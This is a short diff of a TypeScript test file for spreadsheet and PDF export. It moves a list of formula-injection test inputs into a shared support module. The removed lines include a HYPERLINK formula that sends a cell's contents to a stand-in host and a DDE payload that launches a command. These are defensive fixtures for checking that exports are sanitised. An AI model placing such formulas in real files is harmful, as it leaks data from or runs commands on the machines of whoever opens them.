@@ -8,31 +8,8 @@ import { parse } from 'csv-parse/sync';
 import { expect } from 'chai';
 import fc from 'fast-check';
 import readExcelFile from 'read-excel-file/node';
+import { FORMULAS } from '../support/formulas';
 import { pdfText } from '../support/pdfText';
-
-/** What a spreadsheet would run, or might once it is saved and opened by another one. */
-const FORMULAS = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(A1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  '\u3000=1+1',
-  '\u00a0-3',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(A1)',
-  '\u2212 3',
-  'a;=1+1',
-  'a\t=1+1',
-  'a\n=1+1',
-  '=HYPERLINK("http://x.example/?"&A1,"click")',
-  "=cmd|' /C calc'!A0",
-];
 
 const sheetOf = (kind: 'TEXT' | 'AMOUNT', cells: readonly Cell[], currency = 'CNY'): Sheet => ({
   name: 'Test',
